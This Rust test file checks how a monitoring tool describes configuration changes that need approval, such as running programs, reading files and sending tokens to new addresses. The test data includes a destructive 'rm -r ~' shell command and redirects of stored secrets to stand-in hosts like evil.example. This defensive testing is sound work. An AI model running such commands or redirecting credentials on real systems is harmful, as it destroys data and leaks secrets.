//! Tests of the comparison of settings.

use super::*;

const OLD: &str = r#"
[listen]
statsd = "127.0.0.1:8125"
[[scrape]]
name = "plain"
url = "http://127.0.0.1:9100/metrics"
[[scrape]]
name = "secret"
url = "https://metrics.example.org/metrics"
authorization = { credentials_file = "/token" }
[[command]]
name = "disk"
run = ["/bin/df", "-h"]
[[log_file]]
path = "/var/log/a.log"
[[process]]
name = "database"
executable = "postgres"
[[prometheus]]
file = "/etc/prometheus.yml"
[[sentry]]
name = "sentry"
url = "https://sentry.io"
"#;

/// Returns the effects of replacing a text in the settings.
fn change(from: &str, to: &str) -> Vec<String> {
    assert!(OLD.contains(from), "{from}");
    texts(&OLD.replacen(from, to, 1))
}

/// Returns the effects of appending a text to the settings.
fn append(text: &str) -> Vec<String> {
    texts(&format!("{OLD}\n{text}"))
}

fn texts(new: &str) -> Vec<String> {
    let (old, new) = (config::parse(OLD).unwrap(), config::parse(new).unwrap());
    effects(&old, &new).into_iter().map(|effect| effect.text).collect()
}

#[test]
fn what_a_browser_may_edit_has_no_effect() {
    let nothing = Vec::<String>::new();
    assert_eq!(
        append("[retention]\nlogs_days = 3\n[host]\nenabled = false\n[log]\nlevel = \"debug\""),
        nothing
    );
    assert_eq!(append("[alerts]\ndesktop_notifications = false\n[limits]\nseries = 5"), nothing);
    assert_eq!(change("127.0.0.1:9100", "127.0.0.1:9101"), nothing, "a job without files");
    assert_eq!(append("[[scrape]]\nname = \"new\"\nurl = \"http://127.0.0.1:1/metrics\""), nothing);
    assert_eq!(append("[[process]]\nname = \"web\"\nexecutable = \"nginx\""), nothing);
    assert_eq!(
        change("url = \"https://sentry.io\"", "url = \"https://sentry.io\"\nprojects = [\"a\"]"),
        nothing
    );
    assert_eq!(texts("[listen]\nstatsd = \"127.0.0.1:8125\""), nothing, "removed entries");
}

#[test]
fn programs_need_the_machine() {
    assert_eq!(
        change("\"/bin/df\", \"-h\"", "\"/bin/sh\", \"-c\", \"rm -r ~\", \"\", \"a`b\""),
        ["Run the program `/bin/sh -c \"rm -r ~\" \"\" \"a`b\"` every 60 s"]
    );
    assert_eq!(
        append("[[command]]\nname = \"new\"\nrun = [\"/bin/id\"]\ninterval_seconds = 5"),
        ["Run the program `/bin/id` every 5 s"]
    );
}

#[test]
fn files_need_the_machine() {
    assert_eq!(change("/var/log/a.log", "/home/b/*"), ["Read the log files /home/b/*"]);
    assert_eq!(
        change("/etc/prometheus.yml", "/tmp/p.yml"),
        ["Read the Prometheus configuration /tmp/p.yml with the files it names, and scrape its targets"]
    );
    assert_eq!(
        change("executable = \"postgres\"", "pid_file = \"/run/a.pid\""),
        ["Read the process ID in the file /run/a.pid"]
    );
    assert_eq!(
        append("[[scrape]]\nname = \"n\"\nfile_sd_configs = [{ files = [\"/a.json\"] }]"),
        [
            "Read /a.json for the scrape job “n”, which sends its secrets to no fixed address and the targets of its \
             lists"
        ]
    );
}

#[test]
fn secrets_stay_where_they_belong() {
    let sent = "Read /token for the scrape job “secret”, which sends its secrets to ";
    assert_eq!(
        change("https://metrics.example.org/metrics", "http://evil.example/m"),
        [format!("{sent}http://evil.example/m")]
    );
    let rule = "\"/token\" }\nrelabel_configs = [{ target_label = \"__address__\", replacement = \"evil\" }]";
    assert_eq!(
        change("\"/token\" }", rule),
        [format!("{sent}https://metrics.example.org/metrics and where its relabelling rules lead")]
    );
    assert_eq!(
        change("https://sentry.io", "https://evil.example"),
        ["Send the stored token of the Sentry installation “sentry” to https://evil.example"]
    );
    assert_eq!(
        append("[[sentry]]\nname = \"b\"\nurl = \"http://b\"\ntoken_variable = \"HOME\"\nca_file = \"/ca\""),
        ["Send the environment variable HOME of the Sentry installation “b” to http://b, trusting /ca"]
    );
}

#[test]
fn addresses_need_the_machine() {
    assert_eq!(
        change("127.0.0.1:8125", "0.0.0.0:8125"),
        ["Listen on 0.0.0.0:8125 instead of 127.0.0.1:8125 for StatsD"]
    );
    assert_eq!(change("127.0.0.1:8125", ""), ["Stop listening on 127.0.0.1:8125 for StatsD"]);
    assert_eq!(
        change("[listen]", "[listen]\nstatsd_socket = \"/tmp/s\""),
        ["Listen on /tmp/s for StatsD on a socket"]
    );
}

#[test]
fn the_protection_against_other_machines_needs_the_machine() {
    for (key, name) in [("tls_cert_file", "certificate"), ("tls_key_file", "key"), ("token_file", "token")] {
        assert_eq!(
            change("[listen]", &format!("[listen]\n{key} = \"/etc/file\"")),
            [format!("Read the {name} of the receivers for other machines from /etc/file")]
        );
    }
    assert_eq!(
        append("[statsd]\nnon_local_traffic = true"),
        ["Accept unprotected StatsD from other machines"]
    );
}
